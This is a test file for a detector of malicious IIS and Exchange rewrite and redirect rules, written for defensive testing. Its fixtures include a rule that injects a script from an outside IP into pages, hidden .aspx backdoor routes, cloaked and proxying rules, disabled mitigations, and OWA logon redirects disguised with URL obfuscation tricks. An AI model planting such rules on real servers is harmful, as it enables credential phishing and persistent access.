import detector from '../../../src/detectors/iis/rewrite-rule.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { configuration } from '../configuration-samples.js';

const rules = (...lines: string[]) =>
  configuration('<system.webServer><rewrite><rules>', ...lines, '</rules></rewrite></system.webServer>');
const outbound = (...lines: string[]) =>
  configuration(
    '<system.webServer><rewrite><outboundRules>',
    ...lines,
    '</outboundRules></rewrite></system.webServer>',
  );
const rule = (name: string, inner: string, more = '') =>
  `<rule name="${name}" ${more}><match url=".*" />${inner}</rule>`;

testDetector(detector, {
  hits: [
    {
      name: 'rules that pass requests on, send visitors away, or lead to a page',
      input: rules(
        rule('a', '<action type="Rewrite" url="http://203.0.113.4/{R:0}" />'),
        rule('b', '<action type="Redirect" url="https://shop.example/" />'),
        rule('c', '<action type="Rewrite" url="/aspnet_client/zq81x.aspx" />'),
        rule(
          'd',
          '<conditions><add input="{HTTP_USER_AGENT}" pattern="Googlebot|bingbot" /></conditions><action type="Redirect" url="/x" />',
        ),
      ),
      detections: [
        { message: 'proxy', at: { line: 3 }, severity: 'critical' },
        { message: 'away', at: { line: 4 }, severity: 'medium' },
        { message: 'page', at: { line: 5 }, severity: 'high' },
        { message: 'cloaked', at: { line: 6 }, severity: 'high' },
      ],
    },
    {
      name: 'script put into the logon page',
      input: outbound(
        '<rule name="footer" preCondition="html"><match filterByTags="None" pattern="&lt;/body>" /><action type="Rewrite" value="&lt;script src=//203.0.113.4/x.js>&lt;/script>&lt;/body>" /></rule>',
      ),
      detections: [{ message: 'injected', at: { line: 3 }, severity: 'critical', confidence: 'strong' }],
    },
    {
      name: 'mitigations by name that no longer do their work',
      input: rules(
        rule('EEMS M1.1 PowerShell - inbound', '<action type="None" />'),
        rule('EOMT example', '<action type="AbortRequest" />', 'enabled="false"'),
      ),
      detections: [
        { message: 'weakened', at: { line: 3 }, severity: 'high' },
        { message: 'disabled', at: { line: 4 }, severity: 'medium' },
      ],
    },
    {
      name: 'redirects, error pages, providers and proxying',
      input: configuration(
        '<system.webServer><proxy enabled="true" /><httpRedirect enabled="true" destination="https://mail.example/" />',
        '<httpErrors><error statusCode="404" path="/aspnet_client/e.aspx" responseMode="ExecuteURL" /></httpErrors>',
        '<rewrite><providers><provider name="P" type="Example.Provider, Example" /></providers></rewrite></system.webServer>',
      ),
      detections: [
        { message: 'provider', at: { line: 4 }, severity: 'high' },
        { message: 'proxy-on', at: { line: 2 }, severity: 'medium' },
        { message: 'http-redirect', at: { line: 2 }, severity: 'low' },
        { message: 'error-page', at: { line: 3 }, severity: 'high' },
      ],
    },
    {
      name: 'errors that send visitors away, and to the mail itself',
      input: configuration(
        '<system.webServer><httpErrors><error statusCode="404" path="https://cdn.example/x" responseMode="Redirect" />',
        '<error statusCode="403" path="https://mail.example/owa" responseMode="Redirect" /></httpErrors></system.webServer>',
      ),
      detections: [
        { message: 'error-redirect', at: { line: 2 }, severity: 'medium' },
        { message: 'error-redirect', at: { line: 3 }, severity: 'low', outcome: 'hygiene' },
      ],
    },
    {
      name: 'requests that know a header or a cookie, passed to a program on the server; part of a site',
      context: { roles: ['IIS'] },
      input: rules(
        rule(
          'header',
          '<conditions><add input="{HTTP_X_TOKEN}" pattern="^k" /></conditions><action type="Rewrite" url="http://127.0.0.1:8123/{R:0}" />',
        ),
        rule(
          'cookie',
          '<conditions><add input="{HTTP_COOKIE}" pattern="s=7f3a" /></conditions><action type="Rewrite" url="http://localhost:8123/{R:0}" />',
        ),
        '<rule name="part"><match url="^status/(.*)" /><action type="Rewrite" url="http://[::1]:8123/{R:1}" /></rule>',
      ),
      detections: [
        { message: 'loopback', at: { line: 3 }, severity: 'medium', outcome: 'compromise' },
        { message: 'cloaked', at: { line: 3 }, severity: 'low' },
        { message: 'loopback', at: { line: 4 }, severity: 'medium' },
        { message: 'loopback', at: { line: 5 }, severity: 'low', outcome: 'hygiene' },
      ],
    },
    {
      name: 'its own name on a port of another program',
      context: { names: ['ex01'] },
      input: rules(rule('name', '<action type="Rewrite" url="https://EX01:8443/{R:0}" />')),
      detections: [{ message: 'loopback', at: { line: 3 }, severity: 'medium' }],
    },
    {
      name: 'a folder that holds nothing to run, and a part of an application',
      context: { roles: ['IIS'] },
      input: rules(
        '<rule name="a"><match url="^aspnet_client/system_web/(.*)" /><action type="Rewrite" url="http://127.0.0.1:8443/{R:1}" /></rule>',
        '<rule name="b"><match url="^socket.io/(.*)" /><action type="Rewrite" url="http://127.0.0.1:3000/{R:0}" /></rule>',
      ),
      detections: [
        { message: 'loopback', at: { line: 3 }, severity: 'medium' },
        { message: 'loopback', at: { line: 4 }, severity: 'low' },
      ],
    },
    {
      name: 'a whole site of Node.js, with web sockets',
      context: { roles: ['IIS'] },
      input: rules(
        rule(
          'node',
          '<conditions><add input="{HTTP_UPGRADE}" pattern="websocket" /></conditions><action type="Rewrite" url="http://localhost:3000/{R:0}" />',
        ),
      ),
      detections: [
        { message: 'loopback', at: { line: 3 }, severity: 'informational' },
        { message: 'cloaked', at: { line: 3 }, severity: 'low' },
      ],
    },
    {
      name: 'who is to type a password is sent to a host of somebody else',
      context: { names: ['mail.example.org'] },
      input: configuration(
        '<location path="Default Web Site/owa/auth/logon.aspx"><system.webServer><httpRedirect enabled="true" destination="https://mail-example.test/owa/auth/logon.aspx$Q" /></system.webServer></location>',
        '<location path="Default Web Site/owa"><system.webServer><httpRedirect enabled="true"><add wildcard="*auth/logon.aspx" destination="https://sign-in.test/" /></httpRedirect></system.webServer></location>',
        '<system.webServer><rewrite><rules><rule name="r"><match url="^owa/auth/logon\\.aspx" /><action type="Redirect" url="https://sign-in.test/owa/" /></rule></rules></rewrite></system.webServer>',
      ),
      detections: [
        { message: 'away', at: { line: 4 }, severity: 'high' },
        { message: 'http-redirect', at: { line: 2 }, severity: 'high' },
        { message: 'http-redirect', at: { line: 3 }, severity: 'high' },
      ],
    },
    {
      name: 'a host of somebody else behind a name of ones own, as a number, or with the other slashes',
      context: { names: ['mail.example.org'] },
      input: configuration(
        ...[
          'https://mail.example.org:443@sign-in.test/owa/auth/logon.aspx',
          'https://3405803782/owa/auth/logon.aspx',
          'https://0xcb00710a/owa/auth/logon.aspx',
          'https://[2001:db8::1]/owa/auth/logon.aspx',
          'https://outlook.office365.com:443@sign-in.test/owa/auth/logon.aspx',
          'https:/\\sign-in.test/owa/auth/logon.aspx',
          ' \\\\sign-in.test/owa/auth/logon.aspx',
        ].map(
          (url) =>
            `<location path="Default Web Site/owa/auth/logon.aspx"><system.webServer><httpRedirect enabled="true" destination="${url}" /></system.webServer></location>`,
        ),
      ),
      detections: [2, 3, 4, 5, 6, 7, 8].map(
        (line) => ({ message: 'http-redirect', at: { line }, severity: 'high' }) as const,
      ),
    },
    {
      name: 'users sent to the cloud, to another server, and to a host of a company whose domain no name tells',
      context: { names: ['ex01'] },
      input: configuration(
        '<location path="Default Web Site/owa"><system.webServer><httpRedirect enabled="true" destination="https://outlook.office365.com/owa" /></system.webServer></location>',
        '<location path="Default Web Site/owa/auth"><system.webServer><httpRedirect enabled="true" destination="https://outlook.office.com/mail" /></system.webServer></location>',
        '<location path="Default Web Site"><system.webServer><httpRedirect enabled="true" destination="https://mail.example.org/owa" /></system.webServer></location>',
        '<location path="Default Web Site/owa/auth/logon.aspx"><system.webServer><httpRedirect enabled="true" destination="https://mail.example.org/owa" /></system.webServer></location>',
      ),
      detections: [
        { message: 'http-redirect', at: { line: 2 }, severity: 'low' },
        { message: 'http-redirect', at: { line: 3 }, severity: 'low' },
        { message: 'http-redirect', at: { line: 4 }, severity: 'low' },
        { message: 'http-redirect', at: { line: 5 }, severity: 'medium' },
      ],
    },
    {
      name: 'a page to sign in at, and headers, of somebody else',
      context: { names: ['mail.example.org'] },
      input: configuration(
        '<system.web><authentication mode="Forms"><forms loginUrl="https://sign-in.example/l" /></authentication></system.web>',
        '<location path="Default Web Site/owa/auth"><system.webServer><httpProtocol><customHeaders><add name="Refresh" value="0; url=https://sign-in.example/" /></customHeaders></httpProtocol></system.webServer></location>',
      ),
      detections: [
        { message: 'http-redirect', at: { line: 2 }, severity: 'high' },
        { message: 'http-redirect', at: { line: 3 }, severity: 'high' },
      ],
    },
    {
      name: 'a sign-in service that an application of its own uses',
      context: { roles: ['IIS'], names: ['shop.example.org'] },
      input: configuration(
        '<system.web><authentication mode="Forms"><forms loginUrl="https://login.example/" /></authentication></system.web>',
      ),
      detections: [{ message: 'http-redirect', at: { line: 2 }, severity: 'low', outcome: 'hygiene' }],
    },
    {
      name: 'a logon page of somebody, where no name tells the domain',
      context: { names: ['ex01'] },
      input: configuration(
        '<location path="Default Web Site/owa/auth/logon.aspx"><system.webServer><httpRedirect enabled="true" destination="https://mail-example.org/owa/auth/logon.aspx$Q" /></system.webServer></location>',
      ),
      detections: [{ message: 'http-redirect', at: { line: 2 }, severity: 'high', confidence: 'moderate' }],
    },
    {
      name: 'a page where none is, behind a picture; a program behind a secret',
      context: { roles: ['IIS'] },
      input: rules(
        '<rule name="ico"><match url="^favicon\\.ico$" /><action type="Rewrite" url="/aspnet_client/system_web/e.aspx" /></rule>',
        '<rule name="short"><match url="^offer$" /><action type="Rewrite" url="/scripts/offer.aspx" /></rule>',
      ),
      detections: [
        { message: 'page', at: { line: 3 }, severity: 'high' },
        { message: 'page', at: { line: 4 }, severity: 'medium' },
      ],
    },
    {
      name: 'a program of the server behind a secret, beside Exchange',
      input: rules(
        rule(
          'header',
          '<conditions><add input="{HTTP_X_CLIENTID}" pattern="^9b1f" /></conditions><action type="Rewrite" url="http://127.0.0.1:48443/{R:0}" />',
        ),
      ),
      detections: [
        { message: 'loopback', at: { line: 3 }, severity: 'high' },
        { message: 'cloaked', at: { line: 3 }, severity: 'medium' },
      ],
    },
  ],
  misses: [
    { name: 'no rules', input: rules() },
    {
      name: 'the logon sent to another name of the same company, and a redirect that is switched off',
      looksAlike: true,
      context: { names: ['mail.example.org'] },
      input: configuration(
        '<location path="Default Web Site/owa/auth/logon.aspx"><system.webServer><httpRedirect enabled="true" destination="https://sso.example.org/owa/" /></system.webServer></location>',
        '<location path="Default Web Site/owa/auth"><system.webServer><httpRedirect enabled="false" destination="https://sign-in.test/" /></system.webServer></location>',
        '<system.web><authentication mode="Forms"><forms loginUrl="~/logon.aspx" /></authentication></system.web>',
        '<system.webServer><httpProtocol><customHeaders><add name="Refresh" value="600" /><add name="X-Frame-Options" value="https://sign-in.test/" /></customHeaders></httpProtocol></system.webServer>',
      ),
    },
    {
      name: 'the mitigations of Microsoft, known by what they do',
      looksAlike: true,
      input: rules(
        rule(
          'EEMS M1.1 PowerShell - inbound',
          '<conditions><add input="{UrlDecode:{REQUEST_URI}}" pattern="(?=.*autodiscover)(?=.*powershell)" /></conditions><action type="AbortRequest" />',
          'stopProcessing="true"',
        ),
        rule(
          'X-BEResource Abort - inbound',
          '<conditions><add input="{HTTP_COOKIE}" pattern="(.*)X-BEResource=(.+)/(.+)~(.+)" /></conditions><action type="AbortRequest" />',
        ),
        rule(
          'blocked by an administrator',
          '<conditions><add input="{HTTP_USER_AGENT}" pattern="scanner" /></conditions><action type="CustomResponse" statusCode="403" />',
        ),
      ),
    },
    {
      name: 'moves within the site and to its own name over https',
      looksAlike: true,
      input: configuration(
        '<system.webServer><httpRedirect enabled="true" destination="/owa" /><rewrite><rules>',
        rule('https', '<action type="Redirect" url="https://{HTTP_HOST}/{R:1}" />'),
        rule('calendar', '<action type="Rewrite" url="{R:0}?layout=premium" />'),
        '</rules></rewrite></system.webServer>',
      ),
    },
    {
      name: 'the public name of its own bindings, under another host of the domain too',
      looksAlike: true,
      context: { names: ['mail.example.org'] },
      input: rules(
        rule('name', '<action type="Redirect" url="https://webmail.example.org/{R:1}" />'),
        rule('port', '<action type="Rewrite" url="https://mail.example.org:443/{R:1}" />'),
      ),
    },
    {
      name: 'a header rule of a mitigation',
      looksAlike: true,
      input: outbound(
        '<rule name="EOMT OWA CSP - outbound"><match serverVariable="RESPONSE_Content-Security-Policy" pattern=".*" /><action type="Rewrite" value="script-src \'self\'" /></rule>',
      ),
    },
  ],
});
